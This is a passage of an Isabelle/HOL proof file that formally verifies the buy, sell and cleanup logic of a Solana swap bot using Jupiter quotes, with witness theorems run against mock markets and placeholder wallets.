  "(getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance
      \<and> solBalance < cfg_inAmountLamports c
    \<longrightarrow> tick_try w c h
          = (h0 @ [Rpc (GetBalance (cfg_wallet c)),
                   Console (SkipBuyInsufficient solBalance (cfg_inAmountLamports c))], Inr ())
        \<and> requests h0 = requests h \<and> submitted h0 = submitted h)
   \<and> (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance
      \<and> cfg_inAmountLamports c \<le> solBalance
      \<and> getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = (h2, Inl e1)
    \<longrightarrow> tick_try w c h = (h2, Inl e1) \<and> submitted h2 = submitted h)
   \<and> (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance
      \<and> cfg_inAmountLamports c \<le> solBalance
      \<and> getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = (h2, Inr q)
      \<and> (BigInt (inAmount q) = Inl e2
          \<or> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inl e2)
    \<longrightarrow> tick_try w c h = (h2, Inl e2) \<and> submitted h2 = submitted h)
   \<and> (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance
      \<and> cfg_inAmountLamports c \<le> solBalance
      \<and> getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = (h2, Inr q)
      \<and> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inr quoteOut
      \<and> (cfg_tokenDecimals c < 0 \<or> 18 < cfg_tokenDecimals c)
    \<longrightarrow> tick_try w c h
          = (h2, Inl (Error (''Invalid decimals: '' @ toString_int (cfg_tokenDecimals c))))
        \<and> submitted h2 = submitted h)
   \<and> (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance
      \<and> cfg_inAmountLamports c \<le> solBalance
      \<and> getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 (h0 @ [Rpc (GetBalance (cfg_wallet c))]) = (h2, Inr q)
      \<and> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inr quoteOut
      \<and> 0 \<le> cfg_tokenDecimals c \<and> cfg_tokenDecimals c \<le> 18
    \<longrightarrow> tick_try w c h
          = (let price = (if quoteOut \<le> 0 then 0
                          else if 0 \<le> quoteIn
                          then (quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut
                          else - ((- quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut))
             in if price \<le> cfg_buyBelowLamportsPerToken c then
                  (case executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                          (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                          (cfg_priorityFeeLamports c)
                          (h2 @ [Console (BuyCheck price), Console TriggerBuy]) of
                     (h4, Inl e) \<Rightarrow> (h4, Inl e)
                   | (h4, Inr (signature, q')) \<Rightarrow> (h4 @ [Console (BuyDone signature)], Inr ()))
                else (h2 @ [Console (BuyCheck price)], Inr ()))
        \<and> submitted h2 = submitted h)
   \<and> lamportsPerTokenFromQuote 100000000 66726000 6 = Inr 1498666
   \<and> (1498666 :: int) \<le> 1499000000"
proof -
  let ?h1 = "h0 @ [Rpc (GetBalance (cfg_wallet c))]"
  let ?flat = "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> \<not> tokenBalanceUnits > 0
      \<and> balanceRpc w ?h1 = Inr solBalance"
  have reads: "requests h0 = requests h \<and> submitted h0 = submitted h" if ?flat
    using that getTokenBalanceByMint_reads by blast
  have quiet: "submitted h2 = submitted h"
    if "?flat" and "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 ?h1 = (h2, r)" for r
  proof -
    have "submitted h2 = submitted ?h1" using that(2) by (rule getQuote_submits_nothing)
    then show ?thesis using reads [OF that(1)] by (simp add: submitted_append)
  qed
  have a: "tick_try w c h
          = (h0 @ [Rpc (GetBalance (cfg_wallet c)),
                   Console (SkipBuyInsufficient solBalance (cfg_inAmountLamports c))], Inr ())
        \<and> requests h0 = requests h \<and> submitted h0 = submitted h"
    if f: ?flat and "solBalance < cfg_inAmountLamports c"
    using that reads [OF f] by (simp add: tick_try_def buy_path_def Let_def)
  have b1: "tick_try w c h = (h2, Inl e1) \<and> submitted h2 = submitted h"
    if f: ?flat and "cfg_inAmountLamports c \<le> solBalance"
       and g: "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 ?h1 = (h2, Inl e1)"
    using that quiet [OF f g] by (simp add: tick_try_def buy_path_def Let_def)
  have b2: "tick_try w c h = (h2, Inl e2) \<and> submitted h2 = submitted h"
    if f: ?flat and "cfg_inAmountLamports c \<le> solBalance"
       and g: "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 ?h1 = (h2, Inr q)"
       and "BigInt (inAmount q) = Inl e2
          \<or> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inl e2"
    using that quiet [OF f g] by (auto simp: tick_try_def buy_path_def Let_def)
  have b3: "tick_try w c h
          = (h2, Inl (Error (''Invalid decimals: '' @ toString_int (cfg_tokenDecimals c))))
        \<and> submitted h2 = submitted h"
    if f: ?flat and "cfg_inAmountLamports c \<le> solBalance"
       and g: "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 ?h1 = (h2, Inr q)"
       and "BigInt (inAmount q) = Inr quoteIn" "BigInt (outAmount q) = Inr quoteOut"
       and d: "cfg_tokenDecimals c < 0 \<or> 18 < cfg_tokenDecimals c"
  proof -
    have p: "pow10 (cfg_tokenDecimals c)
               = Inl (Error (''Invalid decimals: '' @ toString_int (cfg_tokenDecimals c)))"
      using d by (auto simp: pow10_def)
    show ?thesis
      using that(1-5) p quiet [OF f g]
      by (simp add: tick_try_def buy_path_def Let_def lamportsPerTokenFromQuote_def)
  qed
  have b4: "tick_try w c h
          = (let price = (if quoteOut \<le> 0 then 0
                          else if 0 \<le> quoteIn
                          then (quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut
                          else - ((- quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut))
             in if price \<le> cfg_buyBelowLamportsPerToken c then
                  (case executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                          (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                          (cfg_priorityFeeLamports c)
                          (h2 @ [Console (BuyCheck price), Console TriggerBuy]) of
                     (h4, Inl e) \<Rightarrow> (h4, Inl e)
                   | (h4, Inr (signature, q')) \<Rightarrow> (h4 @ [Console (BuyDone signature)], Inr ()))
                else (h2 @ [Console (BuyCheck price)], Inr ()))
        \<and> submitted h2 = submitted h"
    if f: ?flat and s: "cfg_inAmountLamports c \<le> solBalance"
       and g: "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
           (cfg_slippageBps c) 3 ?h1 = (h2, Inr q)"
       and i: "BigInt (inAmount q) = Inr quoteIn" and o: "BigInt (outAmount q) = Inr quoteOut"
       and d: "0 \<le> cfg_tokenDecimals c" "cfg_tokenDecimals c \<le> 18"
  proof -
    let ?price = "if quoteOut \<le> 0 then 0
                  else if 0 \<le> quoteIn
                  then (quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut
                  else - ((- quoteIn * 10 ^ nat (cfg_tokenDecimals c)) div quoteOut)"
    have p: "lamportsPerTokenFromQuote quoteIn quoteOut (cfg_tokenDecimals c) = Inr ?price"
      using d by (rule buy_price_general)
    have bal: "balanceRpc w ?h1 = Inr solBalance" using f by simp
    have "tick_try w c h = buy_path w c h0" using f tick_try_flat by blast
    also have "\<dots> = (if ?price \<le> cfg_buyBelowLamportsPerToken c then
                  (case executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                          (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                          (cfg_priorityFeeLamports c)
                          (h2 @ [Console (BuyCheck ?price), Console TriggerBuy]) of
                     (h4, Inl e) \<Rightarrow> (h4, Inl e)
                   | (h4, Inr (signature, q')) \<Rightarrow> (h4 @ [Console (BuyDone signature)], Inr ()))
                else (h2 @ [Console (BuyCheck ?price)], Inr ()))"
      by (rule buy_path_priced [OF bal s g i o p d])
    finally show ?thesis using quiet [OF f g] by (simp add: Let_def)
  qed
  have ex: "lamportsPerTokenFromQuote 100000000 66726000 6 = Inr 1498666" by (rule buy_example_price)
  show ?thesis
    using a b1 b2 b3 b4 ex by (intro conjI impI) (blast | simp)+
qed

theorem buy_when_price_at_or_below_witness:
  "tick_try (flat_market \<lparr> balanceRpc := (\<lambda>h. Inr 5) \<rparr>) example_config []
     = ([Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_2022_PROGRAM_ID),
         Rpc (GetBalance ''WaLLet1111111111111111111111111111111111111''),
         Console (SkipBuyInsufficient 5 100000000)], Inr ())
   \<and> triggers (fst (tick_try flat_market example_config [])) = [TriggerBuy]
   \<and> logs (fst (tick_try flat_market example_config []))
       = [FetchingQuote 0, BuyCheck 1498666, TriggerBuy, FetchingQuote 0, RequestingSwap 0, BuyDone ''5sig'']
   \<and> submitted (fst (tick_try flat_market example_config [])) = [SwapTransaction ''AQAAAA=='']
   \<and> logs (fst (tick_try flat_market
                    (example_config \<lparr> cfg_buyBelowLamportsPerToken := 1498665 \<rparr>) []))
       = [FetchingQuote 0, BuyCheck 1498666]
   \<and> submitted (fst (tick_try flat_market
                         (example_config \<lparr> cfg_buyBelowLamportsPerToken := 1498665 \<rparr>) [])) = []
   \<and> snd (tick_try quote_down example_config []) = Inl (Error ''fetch failed'')
   \<and> submitted (fst (tick_try quote_down example_config [])) = []
   \<and> snd (tick_try garbled_market example_config [])
       = Inl (Error ''Cannot convert 66.726 to a BigInt'')
   \<and> submitted (fst (tick_try garbled_market example_config [])) = []
   \<and> snd (tick_try flat_market wide_config []) = Inl (Error ''Invalid decimals: 19'')
   \<and> submitted (fst (tick_try flat_market wide_config [])) = []"
proof -
  let ?wallet = "''WaLLet1111111111111111111111111111111111111''"
  let ?h0 = "[Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_PROGRAM_ID),
              Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_2022_PROGRAM_ID)]"
  let ?h2 = "?h0 @ [Rpc (GetBalance ?wallet), Console (FetchingQuote 0),
                    Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))]"
  let ?poor = "flat_market \<lparr> balanceRpc := (\<lambda>h. Inr 5) \<rparr>"
  let ?strict = "example_config \<lparr> cfg_buyBelowLamportsPerToken := 1498665 \<rparr>"
  have b0: "getTokenBalanceByMint ?poor ?wallet usdc [] = (?h0, Inr 0)"
    by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def)
  have skip: "tick_try ?poor example_config []
     = (?h0 @ [Rpc (GetBalance ?wallet), Console (SkipBuyInsufficient 5 100000000)], Inr ())"
    using b0 buy_when_price_at_or_below
            [where w = ?poor and c = example_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5]
    by simp
  have q: "getQuote flat_market WSOL_MINT usdc ''100000000'' (Some 50) 3 (?h0 @ [Rpc (GetBalance ?wallet)])
             = (?h2, Inr buy_quote)"
    by (simp add: getQuote_first_ok)
  have amounts: "BigInt (inAmount buy_quote) = Inr 100000000" "BigInt (outAmount buy_quote) = Inr 66726000"
    by (simp_all add: buy_quote_def BigInt_examples)
  have buy: "tick_try flat_market example_config []
     = (?h2 @ [Console (BuyCheck 1498666), Console TriggerBuy,
               Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
               Console (RequestingSwap 0),
               Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ?wallet (Some 1000000))),
               Rpc (SendRawTransaction (SwapTransaction ''AQAAAA=='')),
               Rpc GetLatestBlockhash,
               Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
               Console (BuyDone ''5sig'')], Inr ())"
    using q amounts balance_flat_market [of ?wallet usdc]
      buy_when_price_at_or_below
            [where w = flat_market and c = example_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5000000000 and ?h2.0 = ?h2
               and q = buy_quote and quoteIn = 100000000 and quoteOut = 66726000]
    by (simp add: toString_examples executeSwapOnce_flat_market)
  have hold: "tick_try flat_market ?strict []
     = (?h2 @ [Console (BuyCheck 1498666)], Inr ())"
    using q amounts balance_flat_market [of ?wallet usdc]
      buy_when_price_at_or_below
            [where w = flat_market and c = ?strict and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5000000000 and ?h2.0 = ?h2
               and q = buy_quote and quoteIn = 100000000 and quoteOut = 66726000]
    by (simp add: toString_examples example_config_def)
  have d0: "getTokenBalanceByMint quote_down ?wallet usdc [] = (?h0, Inr 0)"
    by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def)
  have dq: "getQuote quote_down WSOL_MINT usdc ''100000000'' (Some 50) 3 (?h0 @ [Rpc (GetBalance ?wallet)])
             = (?h2, Inl (Error ''fetch failed''))"
    by (simp add: getQuote_transport_failure)
  have down: "tick_try quote_down example_config [] = (?h2, Inl (Error ''fetch failed''))"
    using d0 dq
      buy_when_price_at_or_below
            [where w = quote_down and c = example_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5000000000 and ?h2.0 = ?h2
               and ?e1.0 = "Error ''fetch failed''"]
    by (simp add: toString_examples)
  have g0: "getTokenBalanceByMint garbled_market ?wallet usdc [] = (?h0, Inr 0)"
    by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def)
  have gq: "getQuote garbled_market WSOL_MINT usdc ''100000000'' (Some 50) 3
              (?h0 @ [Rpc (GetBalance ?wallet)]) = (?h2, Inr garbled_quote)"
    by (simp add: getQuote_first_ok)
  have gamounts: "BigInt (inAmount garbled_quote) = Inr 100000000"
      "BigInt (outAmount garbled_quote) = Inl (Error ''Cannot convert 66.726 to a BigInt'')"
    by (simp_all add: garbled_quote_def buy_quote_def BigInt_examples garbled_amount)
  have garbled: "tick_try garbled_market example_config []
                   = (?h2, Inl (Error ''Cannot convert 66.726 to a BigInt''))"
    using g0 gq gamounts
      buy_when_price_at_or_below
            [where w = garbled_market and c = example_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5000000000 and ?h2.0 = ?h2
               and q = garbled_quote and quoteIn = 100000000
               and ?e2.0 = "Error ''Cannot convert 66.726 to a BigInt''"]
    by (simp add: toString_examples)
  have wide: "tick_try flat_market wide_config [] = (?h2, Inl (Error ''Invalid decimals: 19''))"
    using q amounts balance_flat_market [of ?wallet usdc]
      buy_when_price_at_or_below
            [where w = flat_market and c = wide_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 0 and solBalance = 5000000000 and ?h2.0 = ?h2
               and q = buy_quote and quoteIn = 100000000 and quoteOut = 66726000]
    by (simp add: toString_examples toString_19)
  show ?thesis
    unfolding skip buy hold down garbled wide by simp
qed

subsection \<open>C10: a non-positive denominator prices at zero\<close>



subsection \<open>C7: the sell decision\<close>

text \<open>The HTTP requests of each operation.\<close>

lemma getQuote_requests:
  assumes "getQuote w inMint outMint amount slippage 3 h = (h1, r)"
  shows "\<exists>k. requests h1 = requests h @ replicate (Suc k) (quote_request inMint outMint amount slippage)"
  using getQuote_loop_waits [of 0 3 w "quote_request inMint outMint amount slippage" h] assms
  by (auto simp: getQuote_def)

lemma getSwapTransaction_requests:
  assumes "getSwapTransaction w q payer fee 3 h = (h1, r)"
  shows "\<exists>k. requests h1
               = requests h @ replicate (Suc k) (PostSwap JUPITER_SWAP_API (swap_request_of q payer fee))"
  using getSwapTransaction_loop_waits
          [of 0 3 w "PostSwap JUPITER_SWAP_API (swap_request_of q payer fee)" h] assms
  by (auto simp: getSwapTransaction_def)

lemma executeSwapOnce_requests:
  assumes "executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, r)"
  shows "\<exists>k posts. requests h1
           = requests h @ replicate (Suc k) (quote_request inMint outMint amount slippage) @ posts
           \<and> list_all is_swap_post posts"
proof -
  obtain hq rq where q: "getQuote w inMint outMint amount slippage 3 h = (hq, rq)"
    by (cases "getQuote w inMint outMint amount slippage 3 h")
  obtain k where k: "requests hq = requests h @ replicate (Suc k) (quote_request inMint outMint amount slippage)"
    using getQuote_requests [OF q] by blast
  show ?thesis
  proof (cases rq)
    case (Inl e)
    then have "h1 = hq" using assms q by (simp add: executeSwapOnce_def)
    then show ?thesis using k by (intro exI [of _ k] exI [of _ "[]"]) simp
  next
    case (Inr quoteResponse)
    obtain hs rs where s: "getSwapTransaction w quoteResponse payer (Some fee) 3 hq = (hs, rs)"
      by (cases "getSwapTransaction w quoteResponse payer (Some fee) 3 hq")
    obtain k' where k': "requests hs = requests hq
         @ replicate (Suc k') (PostSwap JUPITER_SWAP_API (swap_request_of quoteResponse payer (Some fee)))"
      using getSwapTransaction_requests [OF s] by blast
    let ?posts = "replicate (Suc k') (PostSwap JUPITER_SWAP_API (swap_request_of quoteResponse payer (Some fee)))"
    have posts: "list_all is_swap_post ?posts" by (simp add: list_all_iff)
    have "requests h1 = requests hs"
      using assms q Inr s
      by (auto simp: executeSwapOnce_def Let_def requests_append split: sum.splits option.splits)
    then have "requests h1 = requests h @ replicate (Suc k) (quote_request inMint outMint amount slippage) @ ?posts"
      using k k' by simp
    then show ?thesis using posts by blast
  qed
qed

lemma send_close_requests:
  "send_close w owner acct prog shouldClose h = (h1, r) \<Longrightarrow> requests h1 = requests h"
  by (auto simp: send_close_def Let_def requests_append split: sum.splits if_splits)

lemma cleanup_try_requests: "cleanup_try w c h = (h1, r) \<Longrightarrow> requests h1 = requests h"
  by (auto simp: cleanup_try_def Let_def requests_append
           split: sum.splits if_splits option.splits dest!: send_close_requests)

lemma cleanup_requests: "requests (cleanup w c h) = requests h"
proof -
  obtain h1 r where t: "cleanup_try w c (h @ [Console AttemptingClose]) = (h1, r)"
    by (cases "cleanup_try w c (h @ [Console AttemptingClose])")
  have "requests h1 = requests h" using cleanup_try_requests [OF t] by (simp add: requests_append)
  then show ?thesis using t by (cases r) (simp_all add: cleanup_def requests_append)
qed

lemma sell_path_requests:
  assumes "sell_path w c tokenBalanceUnits h = (h1, r)"
  shows "\<exists>k posts. requests h1
           = requests h @ replicate (Suc k) (quote_request (cfg_quoteMint c) WSOL_MINT
                                               (toString_int tokenBalanceUnits) (cfg_slippageBps c)) @ posts
           \<and> list_all is_swap_post posts"
proof -
  let ?Q = "quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits) (cfg_slippageBps c)"
  obtain hq rq where q: "getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                           (cfg_slippageBps c) 3 h = (hq, rq)"
    by (cases "getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits) (cfg_slippageBps c) 3 h")
  obtain k where k: "requests hq = requests h @ replicate (Suc k) ?Q"
    using getQuote_requests [OF q] by blast
  have quote_only: ?thesis if "requests h1 = requests hq"
    using that k by (intro exI [of _ k] exI [of _ "[]"]) simp
  have shape: "requests h1 = requests hq
      \<or> (\<exists>hx rx price. executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                    (toString_int tokenBalanceUnits) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
                    (hq @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) = (hx, rx)
                  \<and> requests h1 = requests hx)"
    using assms q
    by (fastforce simp: sell_path_def Let_def requests_append cleanup_requests
                  split: sum.splits prod.splits if_splits)
  then show ?thesis
  proof
    assume "requests h1 = requests hq"
    then show ?thesis by (rule quote_only)
  next
    assume "\<exists>hx rx price. executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                    (toString_int tokenBalanceUnits) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
                    (hq @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) = (hx, rx)
                  \<and> requests h1 = requests hx"
    then obtain hx rx price where x:
      "executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
          (toString_int tokenBalanceUnits) (cfg_slippageBps c) (cfg_priorityFeeLamports c)
          (hq @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) = (hx, rx)"
      "requests h1 = requests hx" by blast
    obtain k2 posts where p:
      "requests hx = requests (hq @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell])
                       @ replicate (Suc k2) ?Q @ posts" "list_all is_swap_post posts"
      using executeSwapOnce_requests [OF x(1)] by blast
    have "requests h1 = requests h @ replicate (Suc k + Suc k2) ?Q @ posts"
      using x(2) p(1) k by (simp add: requests_append replicate_add replicate_append_same)
    then show ?thesis using p(2) by (intro exI [of _ "k + Suc k2"] exI [of _ posts]) simp
  qed
qed

lemma sell_path_priced:
  assumes "getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
             (cfg_slippageBps c) 3 h = (h1, Inr q)"
      and "BigInt (inAmount q) = Inr quoteIn" "BigInt (outAmount q) = Inr quoteOut"
      and "lamportsPerTokenFromSellQuote quoteIn quoteOut (cfg_tokenDecimals c) = Inr price"
  shows "sell_path w c tokenBalanceUnits h =
           (if price \<ge> cfg_sellAboveLamportsPerToken c then
              (case executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                      (toString_int tokenBalanceUnits) (cfg_slippageBps c)
                      (cfg_priorityFeeLamports c)
                      (h1 @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) of
                 (h3, Inl e) \<Rightarrow> (h3, Inl e)
               | (h3, Inr (signature, q')) \<Rightarrow> (cleanup w c (h3 @ [Console (SellDone signature)]), Inr ()))
            else (h1 @ [Console (SellCheck tokenBalanceUnits price)], Inr ()))"
  using assms by (simp add: sell_path_def Let_def)

lemma sell_example_price: "lamportsPerTokenFromSellQuote 500000000 850000000 6 = Inr 1700000"
  by (simp add: sell_price)

text \<open>
  C7. On a tick that holds a position (the balance read is positive) every quote request
  of the tick, the one that prices the position and the one inside the executed swap,
  asks for the entire balance held, quote mint to WSOL; the only other requests are
  swap-build requests. The price is \<open>(outAmount * 10 ^ decimals) div inAmount\<close> of the
  sell quote, and exactly when it is at least the sell threshold the swap is executed
  for the entire balance, followed on success by the cleanup of the token account. For
  \<open>inAmount = 500000000\<close>, \<open>outAmount = 850000000\<close> and 6 decimals the price is 1700000.
\<close>

theorem sell_whole_position:
  "(getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> tokenBalanceUnits > 0
    \<longrightarrow> (\<exists>k posts. requests (fst (tick_try w c h))
            = requests h @ replicate (Suc k) (quote_request (cfg_quoteMint c) WSOL_MINT
                                               (toString_int tokenBalanceUnits) (cfg_slippageBps c)) @ posts
            \<and> list_all is_swap_post posts))
   \<and> (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> tokenBalanceUnits > 0
      \<and> getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
           (cfg_slippageBps c) 3 h0 = (h1, Inr q)
      \<and> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inr quoteOut
      \<and> 0 < quoteIn \<and> 0 \<le> quoteOut
      \<and> 0 \<le> cfg_tokenDecimals c \<and> cfg_tokenDecimals c \<le> 18
    \<longrightarrow> tick_try w c h
          = (let price = (quoteOut * 10 ^ nat (cfg_tokenDecimals c)) div quoteIn
             in if price \<ge> cfg_sellAboveLamportsPerToken c then
                  (case executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                          (toString_int tokenBalanceUnits) (cfg_slippageBps c)
                          (cfg_priorityFeeLamports c)
                          (h1 @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) of
                     (h3, Inl e) \<Rightarrow> (h3, Inl e)
                   | (h3, Inr (signature, q')) \<Rightarrow>
                       (cleanup w c (h3 @ [Console (SellDone signature)]), Inr ()))
                else (h1 @ [Console (SellCheck tokenBalanceUnits price)], Inr ())))
   \<and> lamportsPerTokenFromSellQuote 500000000 850000000 6 = Inr 1700000"
proof (intro conjI impI)
  assume a: "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> tokenBalanceUnits > 0"
  then have t: "tick_try w c h = sell_path w c tokenBalanceUnits h0"
    using tick_try_holding by blast
  have r0: "requests h0 = requests h"
    using a by (auto simp: getTokenBalanceByMint_def addFromProgram_def Let_def requests_append
                     split: sum.splits prod.splits)
  obtain hs rs where s: "sell_path w c tokenBalanceUnits h0 = (hs, rs)"
    by (cases "sell_path w c tokenBalanceUnits h0")
  show "\<exists>k posts. requests (fst (tick_try w c h))
            = requests h @ replicate (Suc k) (quote_request (cfg_quoteMint c) WSOL_MINT
                                               (toString_int tokenBalanceUnits) (cfg_slippageBps c)) @ posts
            \<and> list_all is_swap_post posts"
    using sell_path_requests [OF s] t s r0 by simp
next
  assume a: "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)
      \<and> tokenBalanceUnits > 0
      \<and> getQuote w (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
           (cfg_slippageBps c) 3 h0 = (h1, Inr q)
      \<and> BigInt (inAmount q) = Inr quoteIn \<and> BigInt (outAmount q) = Inr quoteOut
      \<and> 0 < quoteIn \<and> 0 \<le> quoteOut
      \<and> 0 \<le> cfg_tokenDecimals c \<and> cfg_tokenDecimals c \<le> 18"
  then have p: "lamportsPerTokenFromSellQuote quoteIn quoteOut (cfg_tokenDecimals c)
                  = Inr ((quoteOut * 10 ^ nat (cfg_tokenDecimals c)) div quoteIn)"
    by (simp add: sell_price)
  have t: "tick_try w c h = sell_path w c tokenBalanceUnits h0"
    using a tick_try_holding by blast
  show "tick_try w c h
          = (let price = (quoteOut * 10 ^ nat (cfg_tokenDecimals c)) div quoteIn
             in if price \<ge> cfg_sellAboveLamportsPerToken c then
                  (case executeSwapOnce w (cfg_wallet c) (cfg_quoteMint c) WSOL_MINT
                          (toString_int tokenBalanceUnits) (cfg_slippageBps c)
                          (cfg_priorityFeeLamports c)
                          (h1 @ [Console (SellCheck tokenBalanceUnits price), Console TriggerSell]) of
                     (h3, Inl e) \<Rightarrow> (h3, Inl e)
                   | (h3, Inr (signature, q')) \<Rightarrow>
                       (cleanup w c (h3 @ [Console (SellDone signature)]), Inr ()))
                else (h1 @ [Console (SellCheck tokenBalanceUnits price)], Inr ()))"
    unfolding t
    using a p sell_path_priced [of w c tokenBalanceUnits h0 h1 q quoteIn quoteOut
                                   "(quoteOut * 10 ^ nat (cfg_tokenDecimals c)) div quoteIn"]
    by (simp add: Let_def)
next
  show "lamportsPerTokenFromSellQuote 500000000 850000000 6 = Inr 1700000"
    by (rule sell_example_price)
qed

theorem sell_whole_position_witness:
  "requests (fst (tick_try holding_market example_config []))
     = [quote_request usdc WSOL_MINT ''500000000'' (Some 50),
        quote_request usdc WSOL_MINT ''500000000'' (Some 50),
        PostSwap JUPITER_SWAP_API
          (swap_request_of sell_quote ''WaLLet1111111111111111111111111111111111111'' (Some 1000000))]
   \<and> logs (fst (tick_try holding_market example_config []))
       = [FetchingQuote 0, SellCheck 500000000 1700000, TriggerSell, FetchingQuote 0,
          RequestingSwap 0, SellDone ''5sig'', AttemptingClose, CloseTxSent ''5sig'']
   \<and> swaps (fst (tick_try holding_market example_config [])) = [SwapTransaction ''AQAAAA=='']
   \<and> logs (fst (tick_try holding_market
                    (example_config \<lparr> cfg_sellAboveLamportsPerToken := 1700001 \<rparr>) []))
       = [FetchingQuote 0, SellCheck 500000000 1700000]"
proof -
